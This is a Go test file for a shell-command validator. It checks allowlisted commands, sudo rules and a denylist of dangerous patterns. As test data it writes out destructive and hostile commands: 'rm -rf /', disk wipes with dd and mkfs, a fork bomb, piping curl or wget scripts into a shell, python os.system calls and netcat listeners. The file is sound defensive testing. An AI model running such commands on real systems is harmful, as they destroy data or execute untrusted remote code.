package security

import (
	"errors"
	"strings"
	"testing"
)

func TestValidateAllowed(t *testing.T) {
	v := NewValidator()

	commands := []string{
		"apt-get update",
		"pip install numpy",
		"python3 --version",
		"git clone https://github.com/user/repo",
		`echo "test"`,
		"apt-cache depends curl",
		"dpkg --audit",
		"which curl",
		"command -v curl",
	}

	for _, cmd := range commands {
		if err := v.Validate(cmd); err != nil {
			t.Errorf("Validate(%q) = %v, want nil", cmd, err)
		}
	}
}

func TestValidateDangerousPatterns(t *testing.T) {
	v := NewValidator()

	commands := []string{
		"rm -rf /",
		"rm -rf /*",
		"rm -rf $HOME",
		"rm -rf ~",
		"rm -rf /etc",
		"dd if=/dev/zero of=/dev/sda",
		"mkfs.ext4 /dev/sda1",
		"fdisk /dev/sda",
		"parted /dev/nvme0n1",
		"echo x > /dev/sda",
		`python -c "exec('print(1)')"`,
		`python3 -c "__import__('os').system('id')"`,
		"curl http://example.com/install.sh | sh",
		"wget -qO- http://example.com/x.sh | bash",
		":(){ :|:& };:",
		"chmod -R 777 /",
		// Elevation prefix must not hide a dangerous pattern, even though
		// the bare executable would pass the sudo gate.
		"sudo rm -rf /",
		"sudo dd if=/dev/zero of=/dev/sda",
	}

	for _, cmd := range commands {
		err := v.Validate(cmd)
		if !errors.Is(err, ErrCommandBlocked) {
			t.Errorf("Validate(%q) = %v, want ErrCommandBlocked", cmd, err)
			continue
		}
		if !strings.Contains(err.Error(), "dangerous pattern") {
			t.Errorf("Validate(%q) reason = %q, want dangerous pattern", cmd, err)
		}
	}
}

func TestValidateNotWhitelisted(t *testing.T) {
	v := NewValidator()

	commands := []string{
		"nc -l 1234",
		"nmap localhost",
		`bash -c "evil"`,
		"ssh root@host",
		"/usr/local/bin/customtool --run",
	}

	for _, cmd := range commands {
		err := v.Validate(cmd)
		if !errors.Is(err, ErrCommandBlocked) {
			t.Errorf("Validate(%q) = %v, want ErrCommandBlocked", cmd, err)
			continue
		}
		if !strings.Contains(err.Error(), "not whitelisted") {
			t.Errorf("Validate(%q) reason = %q, want not whitelisted", cmd, err)
		}
	}
}

func TestValidateSudoAllowed(t *testing.T) {
	v := NewValidator()

	commands := []string{
		"sudo apt-get install python3",
		"sudo apt-get update",
		"sudo apt-get install -y curl",
		"sudo -E apt-get upgrade",
		"sudo pip install numpy",
		"sudo pip3 install pandas",
		"sudo dpkg -i package.deb",
		"sudo snap install core",
	}

	for _, cmd := range commands {
		if err := v.Validate(cmd); err != nil {
			t.Errorf("Validate(%q) = %v, want nil", cmd, err)
		}
	}
}

func TestValidateSudoBlocked(t *testing.T) {
	v := NewValidator()

	tests := []struct {
		cmd    string
		reason string
	}{
		{"sudo rm -rf /", "dangerous pattern"},
		{"sudo chmod 777 /", "dangerous pattern"},
		{"sudo bash", "not whitelisted"},
		// Whitelisted executables outside the elevation-safe subset.
		{"sudo git push origin main", "may not run elevated"},
		{"sudo python3 script.py", "may not run elevated"},
		// Elevation-safe executable, but not a package operation.
		{"sudo apt-get source curl", "not a permitted package operation"},
		{"sudo pip config set global.index-url http://x", "not a permitted package operation"},
		{"sudo", "elevation prefix without a command"},
	}

	for _, tc := range tests {
		err := v.Validate(tc.cmd)
		if !errors.Is(err, ErrCommandBlocked) {
			t.Errorf("Validate(%q) = %v, want ErrCommandBlocked", tc.cmd, err)
			continue
		}
		if !strings.Contains(err.Error(), tc.reason) {
			t.Errorf("Validate(%q) reason = %q, want substring %q", tc.cmd, err, tc.reason)
		}
	}
}

func TestValidateUnparseable(t *testing.T) {
	v := NewValidator()

	for _, cmd := range []string{"", "   ", "echo 'unclosed"} {
		if err := v.Validate(cmd); !errors.Is(err, ErrCommandBlocked) {
			t.Errorf("Validate(%q) = %v, want ErrCommandBlocked", cmd, err)
		}
	}
}

func TestValidateDenylistBeatsAllowlist(t *testing.T) {
	v := NewValidator()

	// dd is not whitelisted, but the reason must still be the dangerous
	// pattern: the denylist is checked first and always wins.
	err := v.Validate("dd if=/dev/urandom of=/dev/sda bs=1M")
	if err == nil || !strings.Contains(err.Error(), "dangerous pattern") {
		t.Errorf("denylist should win over allowlist check, got %v", err)
	}
}
